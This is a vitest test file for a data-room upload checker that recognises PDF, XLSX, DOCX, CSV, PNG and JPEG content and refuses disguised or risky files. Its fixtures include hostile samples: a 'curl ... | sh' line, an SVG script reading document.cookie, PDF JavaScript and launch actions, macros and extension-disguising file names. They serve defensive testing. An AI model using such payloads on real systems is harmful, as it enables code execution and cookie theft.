import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { checkRoomDocument, ROOM_DOCUMENT_KINDS, ROOM_DOCUMENT_MAX_BYTES } from './document-check';

// ---------------------------------------------------------------------------
// Small real files, built here

const utf8 = (text: string) => new TextEncoder().encode(text);
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const hex = (text: string) => new Uint8Array(Buffer.from(text.replace(/\s+/g, ''), 'hex'));
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** A 1x1 RGB PNG: signature, IHDR, one IDAT, IEND (69 bytes; `file` reports "PNG image data, 1 x 1"). */
const PNG_1X1 = hex(`
	89504e470d0a1a0a 0000000d49484452 0000000100000001 0802000000907753de
	0000000c49444154 78da6390caef0100 01bc011639aae6d2
	0000000049454e44ae426082`);

/**
 * A 1x1 grey baseline JPEG written marker by marker (ITU-T T.81): SOI, DQT of
 * ones, SOF0, one-code DC and AC Huffman tables, SOS, two bits of scan data
 * padded with ones, EOI. 141 bytes; poppler's JPEG decoder draws it as grey 128.
 */
const JPEG_1X1 = concat(
	hex('ffd8'),
	hex('ffdb0043 00'),
	new Uint8Array(64).fill(1),
	hex('ffc0000b 08 0001 0001 01 01 11 00'),
	hex(`ffc40014 00 01 ${'00'.repeat(15)} 00`),
	hex(`ffc40014 10 01 ${'00'.repeat(15)} 00`),
	hex('ffda0008 01 01 00 00 3f 00'),
	hex('3f'),
	hex('ffd9')
);

/** `<< dictionary /Length n >> stream ... endstream`, the body given as latin1 text. */
function pdfStream(dictionary: string, body: string): string {
	return `<< ${dictionary} /Length ${body.length} >>\nstream\n${body}\nendstream`;
}

const PAGE_TEXT = 'BT /F1 12 Tf 20 50 Td (Kestle Sound array: yield summary) Tj ET';

/**
 * A one-page PDF with a correct cross-reference table. `extra` objects are
 * numbered from 6 on; `catalogExtra` goes into the catalog dictionary.
 */
function pdf(options: { catalogExtra?: string; extra?: string[]; trailerExtra?: string } = {}): Uint8Array {
	const objects = [
		`<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''}>>`,
		'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
		'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
		pdfStream('', PAGE_TEXT),
		'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
		...(options.extra ?? [])
	];
	let text = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
	const offsets: number[] = [];
	objects.forEach((body, i) => {
		offsets.push(text.length);
		text += `${i + 1} 0 obj\n${body}\nendobj\n`;
	});
	const xref = text.length;
	text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
	for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
	text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailerExtra ?? ''}>>\nstartxref\n${xref}\n%%EOF\n`;
	return latin1(text);
}

/**
 * A ZIP archive (APPNOTE.TXT 4.3): entries deflated, or stored when
 * `stored` is set; names in `encrypted` get the "encrypted" flag bit.
 */
function zip(files: Record<string, string | Uint8Array>, options: { stored?: boolean; encrypted?: string[] } = {}): Uint8Array {
	const locals: Buffer[] = [];
	const centrals: Buffer[] = [];
	let offset = 0;
	for (const [name, content] of Object.entries(files)) {
		const data = typeof content === 'string' ? Buffer.from(content, 'utf8') : Buffer.from(content);
		const packed = options.stored ? data : deflateRawSync(data);
		const method = options.stored ? 0 : 8;
		const flags = 0x0800 | (options.encrypted?.includes(name) ? 0x0001 : 0);
		const nameBytes = Buffer.from(name, 'utf8');
		const crc = crc32(data);

		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt16LE(flags, 6);
		local.writeUInt16LE(method, 8);
		local.writeUInt16LE(0x0021, 12); // 1980-01-01
		local.writeUInt32LE(crc, 14);
		local.writeUInt32LE(packed.length, 18);
		local.writeUInt32LE(data.length, 22);
		local.writeUInt16LE(nameBytes.length, 26);
		locals.push(local, nameBytes, packed);

		const central = Buffer.alloc(46);
		central.writeUInt32LE(0x02014b50, 0);
		central.writeUInt16LE(20, 4);
		central.writeUInt16LE(20, 6);
		central.writeUInt16LE(flags, 8);
		central.writeUInt16LE(method, 10);
		central.writeUInt16LE(0x0021, 14);
		central.writeUInt32LE(crc, 16);
		central.writeUInt32LE(packed.length, 20);
		central.writeUInt32LE(data.length, 24);
		central.writeUInt16LE(nameBytes.length, 28);
		central.writeUInt32LE(offset, 42);
		centrals.push(central, nameBytes);

		offset += local.length + nameBytes.length + packed.length;
	}
	const directory = Buffer.concat(centrals);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(Object.keys(files).length, 8);
	end.writeUInt16LE(Object.keys(files).length, 10);
	end.writeUInt32LE(directory.length, 12);
	end.writeUInt32LE(offset, 16);
	return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

const RELS_XML =
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
	'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
	'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
	'</Relationships>';

function contentTypesXml(mainPart: string, mainType: string): string {
	return (
		'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
		'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
		'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
		'<Default Extension="xml" ContentType="application/xml"/>' +
		`<Override PartName="${mainPart}" ContentType="${mainType}"/>` +
		'</Types>'
	);
}

const DOCX_FILES = {
	'[Content_Types].xml': contentTypesXml(
		'/word/document.xml',
		'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
	),
	'_rels/.rels': RELS_XML,
	'word/document.xml':
		'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
		'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
		'<w:body><w:p><w:r><w:t>Kestle Sound tidal array: information memorandum</w:t></w:r></w:p></w:body></w:document>'
};

/** The smallest Word document: content types, the package relationship, one paragraph. */
const docx = () => zip(DOCX_FILES);

/** A real workbook written by exceljs. */
async function xlsx(): Promise<Uint8Array> {
	const workbook = new ExcelJS.Workbook();
	workbook.addWorksheet('Yield').addRows([
		['Year', 'Net energy (MWh)'],
		[1, 41250],
		[2, 41040]
	]);
	return new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
}

const CSV = utf8('Year,Net energy (MWh)\n1,41250\n');

function reasonFor(fileName: string, bytes: Uint8Array): string {
	const result = checkRoomDocument({ fileName, bytes });
	if (result.ok) throw new Error(`expected ${fileName} to be refused, but it passed as ${result.kind}`);
	return result.reason;
}

function accepted(fileName: string, bytes: Uint8Array) {
	const result = checkRoomDocument({ fileName, bytes });
	if (!result.ok) throw new Error(`expected ${fileName} to pass, but: ${result.reason}`);
	return result;
}

// ---------------------------------------------------------------------------

describe('ROOM_DOCUMENT_MAX_BYTES and ROOM_DOCUMENT_KINDS', () => {
	it('set a 50 MB limit and six kinds, each with one content type', () => {
		expect(ROOM_DOCUMENT_MAX_BYTES).toBe(52_428_800);
		expect(Object.keys(ROOM_DOCUMENT_KINDS)).toEqual(['pdf', 'xlsx', 'csv', 'docx', 'png', 'jpeg']);
		// Content types as registered with IANA (application/pdf RFC 8118, text/csv RFC 4180, image/png, image/jpeg)
		// and as Office declares its Open XML files (ECMA-376 Part 2 / IANA registrations).
		expect(ROOM_DOCUMENT_KINDS.pdf.contentType).toBe('application/pdf');
		expect(ROOM_DOCUMENT_KINDS.xlsx.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
		expect(ROOM_DOCUMENT_KINDS.docx.contentType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
		expect(ROOM_DOCUMENT_KINDS.csv.contentType).toBe('text/csv; charset=utf-8');
		expect(ROOM_DOCUMENT_KINDS.jpeg.extensions).toEqual(['jpg', 'jpeg']);
	});
});

describe('checkRoomDocument: accepted documents', () => {
	it('accepts a one-page PDF', () => {
		const result = accepted('kestle-yield.pdf', pdf());
		expect(result).toMatchObject({ kind: 'pdf', contentType: 'application/pdf', safeFileName: 'kestle-yield.pdf' });
	});

	it('accepts a PNG image', () => {
		const result = accepted('array-layout.png', PNG_1X1);
		expect(result).toMatchObject({ kind: 'png', contentType: 'image/png', byteSize: 69 });
	});

	it('accepts a JPEG image under .jpg and .jpeg', () => {
		expect(accepted('site-photo.jpg', JPEG_1X1)).toMatchObject({ kind: 'jpeg', contentType: 'image/jpeg' });
		expect(accepted('site-photo.JPEG', JPEG_1X1).safeFileName).toBe('site-photo.jpeg');
	});

	it('accepts an XLSX workbook written by exceljs', async () => {
		const result = accepted('cash-flow.xlsx', await xlsx());
		expect(result).toMatchObject({
			kind: 'xlsx',
			contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
		});
	});

	it('accepts a DOCX document, deflated or stored', () => {
		const expected = { kind: 'docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
		expect(accepted('memorandum.docx', docx())).toMatchObject(expected);
		expect(accepted('memorandum.docx', zip(DOCX_FILES, { stored: true }))).toMatchObject(expected);
	});

	it('accepts a UTF-8 CSV, with or without a byte-order mark', () => {
		expect(accepted('yield.csv', CSV)).toMatchObject({ kind: 'csv', contentType: 'text/csv; charset=utf-8' });
		expect(accepted('yield.csv', concat(hex('efbbbf'), CSV)).kind).toBe('csv');
	});

	it('accepts a CSV whose first cell happens to start with MZ', () => {
		expect(accepted('zones.csv', utf8('MZ-north,MZ-south\n1,2\n')).kind).toBe('csv');
	});

	it('reports the size and the SHA-256 of the bytes', () => {
		const result = accepted('yield.csv', CSV);
		expect(result.byteSize).toBe(30);
		// Computed with coreutils: printf 'Year,Net energy (MWh)\n1,41250\n' | sha256sum
		expect(result.sha256).toBe('dac8a25b1cbab311f8e656c7aa3d28923d540fc7a04d873d2589c0d375f2d432');
	});

	it('accepts a document of exactly the limit', () => {
		const head = pdf();
		const padded = concat(new TextEncoder().encode('%PDF-1.7\n%'), new Uint8Array(ROOM_DOCUMENT_MAX_BYTES - head.length - 10).fill(0x20), head);
		expect(padded.length).toBe(ROOM_DOCUMENT_MAX_BYTES);
		expect(accepted('board-pack.pdf', padded).byteSize).toBe(ROOM_DOCUMENT_MAX_BYTES);
	});

	it('does not mistake "/JS" inside an image stream for a script', () => {
		// Binary image data: a byte run reading "/JS " is chance, not an action.
		const image = pdfStream(
			'/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8',
			'\u0091\u00f3/JS \u0007\u00c4\u0012\u0088\u00fe\u0001\u0002\u0003\u0004\u0005\u0006\u0007'
		);
		expect(accepted('chart.pdf', pdf({ extra: [image] })).kind).toBe('pdf');
	});

	it('accepts a PDF that keeps harmless objects in a compressed object stream', () => {
		const objects = deflateSync(Buffer.from('7 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>')).toString('latin1');
		const objectStream = pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objects);
		expect(accepted('linked.pdf', pdf({ extra: [objectStream] })).kind).toBe('pdf');
	});
});

describe('checkRoomDocument: the decision comes from the content, not the name', () => {
	it('passes a PNG named .png and refuses the same bytes named .pdf, naming what they are', () => {
		expect(accepted('layout.png', PNG_1X1).kind).toBe('png');
		expect(reasonFor('layout.pdf', PNG_1X1)).toBe('layout.pdf is a PNG image: rename it .png or upload the PDF.');
	});

	it('refuses a PDF named .xlsx and a JPEG named .png', () => {
		expect(reasonFor('cash-flow.xlsx', pdf())).toBe('cash-flow.xlsx is a PDF: rename it .pdf or upload the XLSX.');
		expect(reasonFor('photo.png', JPEG_1X1)).toBe('photo.png is a JPEG image: rename it .jpg or upload the PNG.');
	});

	it('refuses a DOCX named .xlsx and a workbook named .docx', async () => {
		expect(reasonFor('model.xlsx', docx())).toBe(
			'model.xlsx is a Word document (DOCX): rename it .docx or upload the XLSX.'
		);
		expect(reasonFor('memo.docx', await xlsx())).toBe(
			'memo.docx is an Excel workbook (XLSX): rename it .xlsx or upload the DOCX.'
		);
	});

	it('refuses an allowed kind under an unknown extension, saying how to rename it', () => {
		expect(reasonFor('summary.txt', pdf())).toBe('summary.txt is a PDF: rename it .pdf.');
	});

	it('takes text as CSV only when it is named .csv', () => {
		expect(reasonFor('yield.pdf', CSV)).toBe('yield.pdf is not a PDF: its content is plain text.');
		expect(reasonFor('yield.txt', CSV)).toBe(
			'yield.txt is plain text, which a data room takes only as a CSV named .csv; allowed: PDF, XLSX, CSV, DOCX, PNG, JPEG.'
		);
	});
});

describe('checkRoomDocument: refused content', () => {
	it('refuses bytes that match no allowed kind under an allowed extension', () => {
		expect(reasonFor('yield.pdf', hex('0011223344556677889900aabbccddeeff'))).toBe(
			'yield.pdf is not a PDF: its content matches none of the allowed kinds (PDF, XLSX, CSV, DOCX, PNG, JPEG).'
		);
	});

	it('refuses a Windows program named .pdf', () => {
		const program = concat(latin1('MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000'), new Uint8Array(54));
		expect(reasonFor('kestle-yield.pdf', program)).toBe(
			'kestle-yield.pdf is not a PDF: its content starts like a Windows program (MZ).'
		);
	});

	it('refuses a Windows program under its own extension, listing what is allowed', () => {
		const program = concat(latin1('MZ\u0090\u0000'), new Uint8Array(60));
		expect(reasonFor('setup.exe', program)).toBe(
			'setup.exe is refused: its content starts like a Windows program (MZ); allowed: PDF, XLSX, CSV, DOCX, PNG, JPEG.'
		);
	});

	it('refuses a Linux program named .xlsx', () => {
		const elf = concat(hex('7f454c46 02 01 01 00'), new Uint8Array(56));
		expect(reasonFor('cash-flow.xlsx', elf)).toBe(
			'cash-flow.xlsx is not an Excel workbook (XLSX): its content starts like a Linux program (ELF).'
		);
	});

	it('refuses a macOS program named .docx', () => {
		expect(reasonFor('memo.docx', concat(hex('cffaedfe 0c000001'), new Uint8Array(24)))).toBe(
			'memo.docx is not a Word document (DOCX): its content starts like a macOS program (Mach-O).'
		);
	});

	it('refuses a shell script named .csv', () => {
		expect(reasonFor('yield.csv', utf8('#!/bin/sh\ncurl http://example.invalid/x | sh\n'))).toBe(
			'yield.csv is not a CSV file: its content starts like a script (#!).'
		);
	});

	it('refuses HTML named .csv', () => {
		expect(reasonFor('yield.csv', utf8('<!DOCTYPE html>\n<html><body>Year,MWh</body></html>\n'))).toBe(
			'yield.csv is not a CSV file: its content is an HTML page.'
		);
	});

	it('refuses a CSV that carries a script tag after a first line of data', () => {
		expect(reasonFor('yield.csv', utf8('Year,MWh\n1,<script>alert(1)</script>\n'))).toBe(
			'yield.csv is not a CSV file: its content is an HTML page.'
		);
	});

	it('refuses a CSV that starts with "<"', () => {
		expect(reasonFor('yield.csv', utf8('<Year>,MWh\n1,2\n'))).toBe(
			'yield.csv is not a CSV file: its content is markup such as HTML or XML (it starts with <).'
		);
	});

	it('refuses an SVG with a script named .png', () => {
		const svg = utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
		expect(reasonFor('chart.png', svg)).toBe(
			'chart.png is not a PNG image: its content is an SVG image with a script (<svg, <script).'
		);
	});

	it('refuses an SVG behind an XML declaration, even without a script', () => {
		const svg = utf8('\ufeff<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>');
		expect(reasonFor('chart.png', svg)).toBe('chart.png is not a PNG image: its content is an SVG image (<svg).');
	});

	it('refuses an old-format Office file named .docx', () => {
		const ole = concat(hex('d0cf11e0a1b11ae1'), new Uint8Array(504));
		expect(reasonFor('memo.docx', ole)).toBe(
			'memo.docx is not a Word document (DOCX): it is an old-format or password-protected Office file (OLE, as .doc and .xls are): save it as .docx or .xlsx without a password and upload that.'
		);
	});

	it('refuses a ZIP archive of another kind named .docx', () => {
		expect(reasonFor('memo.docx', zip({ 'readme.txt': 'Kestle Sound', 'data/yield.csv': 'Year,MWh\n' }))).toBe(
			'memo.docx is a ZIP archive of another kind; allowed: PDF, XLSX, CSV, DOCX, PNG, JPEG.'
		);
	});

	it('names a presentation for what it is', () => {
		const pptx = zip({
			'[Content_Types].xml': contentTypesXml('/ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'),
			'ppt/presentation.xml': '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
		});
		expect(reasonFor('deck.docx', pptx)).toBe('deck.docx is a PowerPoint presentation (PPTX); allowed: PDF, XLSX, CSV, DOCX, PNG, JPEG.');
	});

	it('refuses a GIF image named .png', () => {
		expect(reasonFor('logo.png', latin1('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'))).toBe(
			'logo.png is a GIF image; allowed: PDF, XLSX, CSV, DOCX, PNG, JPEG.'
		);
	});
});

describe('checkRoomDocument: size', () => {
	it('refuses an empty file', () => {
		expect(reasonFor('yield.pdf', new Uint8Array(0))).toBe('yield.pdf is empty (0 bytes).');
	});

	it('refuses a file one byte over the limit, giving its size and the limit in MB', () => {
		expect(reasonFor('board-pack.pdf', new Uint8Array(ROOM_DOCUMENT_MAX_BYTES + 1))).toBe(
			'board-pack.pdf is 50.1 MB, over the 50 MB limit for a data-room document.'
		);
	});
});

describe('checkRoomDocument: file names', () => {
	it('refuses path separators', () => {
		expect(reasonFor('reports/yield.pdf', pdf())).toBe(
			'The file name "reports/yield.pdf" contains a path separator (/): upload the file under its own name, without folders.'
		);
		expect(reasonFor('C:\\reports\\yield.pdf', pdf())).toMatch(/contains a path separator \(\\\)/);
	});

	it('refuses ".."', () => {
		expect(reasonFor('yield..pdf', pdf())).toBe(
			'The file name "yield..pdf" contains "..", which could point outside its folder: rename the file without it.'
		);
	});

	it('refuses control characters, shown as code points', () => {
		expect(reasonFor('yield\u0007.pdf', pdf())).toBe(
			'The file name "yield\\u{7}.pdf" contains a control character (U+0007): rename the file without it.'
		);
	});

	it('refuses a right-to-left override that disguises the extension', () => {
		expect(reasonFor('invoice\u202efdp.exe', pdf())).toMatch(
			/^The file name "invoice\\u\{202E\}fdp\.exe" contains an invisible formatting character \(U\+202E\)/
		);
	});

	it('refuses a leading dot', () => {
		expect(reasonFor('.yield.pdf', pdf())).toBe('The file name ".yield.pdf" starts with a dot, the mark of a hidden file: rename it.');
	});

	it('refuses a name over 200 characters and accepts one of exactly 200', () => {
		expect(reasonFor(`${'a'.repeat(197)}.pdf`, pdf())).toMatch(/ is 201 characters long; at most 200 are allowed: shorten it\.$/);
		expect(accepted(`${'a'.repeat(196)}.pdf`, pdf()).safeFileName).toHaveLength(200);
	});

	it('refuses a blank name', () => {
		expect(reasonFor('   ', pdf())).toBe('The file has no name: give it a name ending in its extension, such as .pdf.');
	});
});

describe('checkRoomDocument: safeFileName', () => {
	it('collapses whitespace, drops accents, replaces unsafe characters and lower-cases the extension', () => {
		expect(accepted('  Kestle   Sound\u00a0yield — “final” (v2).PDF ', pdf()).safeFileName).toBe('Kestle Sound yield - -final- (v2).pdf');
		expect(accepted("Étude d'énergie: Baie Corran.csv", CSV).safeFileName).toBe('Etude d-energie- Baie Corran.csv');
	});

	it('falls back to "document" when nothing safe is left of the name', () => {
		expect(accepted('潮汐.png', PNG_1X1).safeFileName).toBe('document.png');
	});
});

describe('checkRoomDocument: PDF content', () => {
	it('refuses a PDF with /JavaScript', () => {
		const script = '<< /S /JavaScript /JS (app.alert\\("Kestle"\\)) >>';
		expect(reasonFor('kestle-yield.pdf', pdf({ catalogExtra: '/OpenAction 6 0 R', extra: [script] }))).toBe(
			'kestle-yield.pdf contains JavaScript (/JavaScript), which a data room does not accept: save or print it to a new PDF without scripts, actions or attachments and upload that.'
		);
	});

	it('refuses /JS spelled with #xx escapes', () => {
		expect(reasonFor('yield.pdf', pdf({ catalogExtra: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }))).toMatch(
			/^yield\.pdf contains JavaScript \(\/JavaScript\)/
		);
	});

	it('refuses a launch action and an embedded file', () => {
		expect(reasonFor('yield.pdf', pdf({ catalogExtra: '/OpenAction << /S /Launch /F (calc.exe) >>' }))).toMatch(
			/^yield\.pdf contains an action that launches a program \(\/Launch\)/
		);
		const attachment = pdfStream('/Type /EmbeddedFile', 'MZ payload');
		expect(reasonFor('yield.pdf', pdf({ extra: [attachment] }))).toMatch(/^yield\.pdf contains an embedded file \(\/EmbeddedFile\)/);
	});

	it('refuses JavaScript hidden in a compressed object stream', () => {
		const objects = deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>')).toString('latin1');
		const objectStream = pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objects);
		expect(reasonFor('yield.pdf', pdf({ catalogExtra: '/OpenAction 7 0 R', extra: [objectStream] }))).toMatch(
			/^yield\.pdf contains JavaScript/
		);
	});

	it('refuses an object stream it cannot unpack', () => {
		const objectStream = pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', '\u0080\u000b\u0060\u0050\u0022\u000c');
		expect(reasonFor('yield.pdf', pdf({ extra: [objectStream] }))).toBe(
			'yield.pdf stores objects in a compressed form this check cannot read, so it cannot be checked: save it again as a standard PDF and upload that.'
		);
	});

	it('refuses an object disguised as the data of a stream', () => {
		const disguise = pdfStream('/Subtype /Image', '\u0000\u00ff 8 0 obj << /S /JavaScript /JS (1) >> endobj');
		expect(reasonFor('yield.pdf', pdf({ extra: [disguise] }))).toMatch(/^yield\.pdf contains JavaScript/);
	});

	it('reads a PDF of half a million stream keywords in one pass', () => {
		// Each keyword opens a "stream" whose body holds an object header, so none can be skipped:
		// searching again from every keyword would take hours on this file.
		const hostile = latin1(`%PDF-1.7\n${'<<>>stream\n'.repeat(500_000)}1 0 obj\nendstream\n%%EOF\n`);
		const started = performance.now();
		expect(accepted('hostile.pdf', hostile).kind).toBe('pdf');
		expect(performance.now() - started).toBeLessThan(5_000);
	});

	it('refuses an encrypted PDF', () => {
		expect(reasonFor('yield.pdf', pdf({ trailerExtra: '/Encrypt 6 0 R', extra: ['<< /Filter /Standard /V 2 /R 3 >>'] }))).toBe(
			'yield.pdf is a password-protected or encrypted PDF, so its content cannot be checked: upload a copy without protection.'
		);
	});

	it('refuses a PDF with no %%EOF near its end', () => {
		const whole = pdf();
		expect(reasonFor('yield.pdf', whole.subarray(0, whole.length - 20))).toBe(
			'yield.pdf is an incomplete PDF: it has no %%EOF marker near its end, so the upload may have been cut short.'
		);
	});

	it('is strict about the header: %PDF- at the first byte, then a version', () => {
		expect(reasonFor('yield.pdf', concat(utf8('\n'), pdf()))).toBe(
			'yield.pdf is not a PDF: its content matches none of the allowed kinds (PDF, XLSX, CSV, DOCX, PNG, JPEG).'
		);
		expect(reasonFor('yield.pdf', utf8('%PDF-x\n%%EOF\n'))).toBe(
			'yield.pdf starts with %PDF- but has no version number after it, so it is not a readable PDF.'
		);
	});
});

describe('checkRoomDocument: PNG and JPEG content', () => {
	it('refuses a truncated PNG', () => {
		expect(reasonFor('layout.png', PNG_1X1.subarray(0, 50))).toBe(
			'layout.png is a PNG image that is cut short: the upload may have been interrupted, so upload it again.'
		);
		expect(reasonFor('layout.png', PNG_1X1.subarray(0, 12))).toMatch(/is a PNG image that is cut short/);
	});

	it('refuses a PNG without an IHDR chunk first', () => {
		const noHeader = concat(PNG_1X1.subarray(0, 8), PNG_1X1.subarray(33));
		expect(reasonFor('layout.png', noHeader)).toBe('layout.png is a damaged PNG image: it does not begin with an IHDR header chunk.');
	});

	it('refuses a PNG with another file appended after IEND', () => {
		expect(reasonFor('layout.png', concat(PNG_1X1, zip({ 'x.txt': 'x' })))).toBe(
			'layout.png is a PNG image with other data after its end (IEND): save it again as a plain PNG.'
		);
	});

	it('refuses a JPEG that does not end with FF D9', () => {
		expect(reasonFor('site-photo.jpg', JPEG_1X1.subarray(0, JPEG_1X1.length - 2))).toBe(
			'site-photo.jpg is a JPEG image that is cut short: it does not end with the JPEG end marker (FF D9), so upload it again.'
		);
	});
});

describe('checkRoomDocument: XLSX and DOCX content', () => {
	it('refuses a macro-enabled workbook (vbaProject.bin)', () => {
		const macroWorkbook = zip({
			'[Content_Types].xml': contentTypesXml('/xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
			'xl/workbook.xml': '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
			'xl/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
		});
		expect(reasonFor('cash-flow.xlsx', macroWorkbook)).toBe(
			'cash-flow.xlsx contains macros (xl/vbaProject.bin), which a data room does not accept: save it as an Excel Workbook (.xlsx) without macros or embedded objects and upload that.'
		);
	});

	it('refuses a document with an embedded OLE object', () => {
		const withObject = zip({ ...DOCX_FILES, 'word/embeddings/oleObject1.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) });
		expect(reasonFor('memo.docx', withObject)).toMatch(/^memo\.docx contains an embedded object \(word\/embeddings\/oleObject1\.bin\)/);
	});

	it('refuses a document with encrypted entries', () => {
		expect(reasonFor('memo.docx', zip(DOCX_FILES, { encrypted: ['word/document.xml'] }))).toBe(
			'memo.docx has encrypted parts (word/document.xml), so its content cannot be checked: save it without a password and upload that.'
		);
	});

	it('refuses a ZIP whose end is cut off', async () => {
		const workbook = await xlsx();
		expect(reasonFor('cash-flow.xlsx', workbook.subarray(0, workbook.length - 10))).toBe(
			'cash-flow.xlsx starts like a ZIP archive (as XLSX and DOCX files are) but cannot be read: its end-of-archive record is missing, so it may be cut short. Save it again and upload the new copy.'
		);
	});

	it('refuses a ZIP whose list of contents points at nothing', () => {
		const damaged = docx();
		const view = new DataView(damaged.buffer);
		const directoryOffset = view.getUint32(damaged.length - 6, true);
		view.setUint32(directoryOffset + 42, 7, true); // first entry's local header moved to a wrong place
		expect(reasonFor('memo.docx', damaged)).toMatch(/cannot be read: entry 1 points at data that is not there\./);
	});

	it('refuses a ZIP that lists the same entry twice', () => {
		const doubled = zip({ ...DOCX_FILES, 'WORD/document.xml': '<w:document/>' });
		expect(reasonFor('memo.docx', doubled)).toBe(
			'memo.docx is a ZIP archive that lists the same entry twice, so readers may disagree on its content.'
		);
	});
});

describe('checkRoomDocument: CSV content', () => {
	it('refuses a CSV with NUL bytes', () => {
		expect(reasonFor('yield.csv', utf8('Year,MWh\n1,4\u00002\n'))).toBe('yield.csv contains NUL bytes, so it is binary data, not CSV text.');
	});

	it('refuses a CSV that is not valid UTF-8', () => {
		// "Année" in Windows-1252: 0xE9 alone is not UTF-8.
		expect(reasonFor('yield.csv', latin1('Ann\u00e9e,MWh\n1,41250\n'))).toBe(
			'yield.csv is not valid UTF-8 text (it may be saved in an older encoding such as Windows-1252): save it from your spreadsheet as "CSV UTF-8" and upload that.'
		);
	});

	it('refuses a UTF-16 CSV', () => {
		expect(reasonFor('yield.csv', new Uint8Array(Buffer.from('\ufeffYear,MWh\n', 'utf16le')))).toBe(
			'yield.csv is saved as UTF-16 text: save it from your spreadsheet as "CSV UTF-8" and upload that.'
		);
	});

	it('refuses control characters other than tab, CR and LF, naming the line', () => {
		expect(accepted('yield.csv', utf8('Year\tMWh\r\n1\t41250\r\n')).kind).toBe('csv');
		expect(reasonFor('yield.csv', utf8('Year,MWh\n1,41\u001b[31m250\n'))).toBe(
			'yield.csv contains a control character (U+001B) on line 2; a CSV holds only text, tabs and line breaks.'
		);
	});

	it('refuses a CSV of only blank space', () => {
		expect(reasonFor('yield.csv', utf8(' \n\n'))).toBe('yield.csv holds no text.');
	});
});
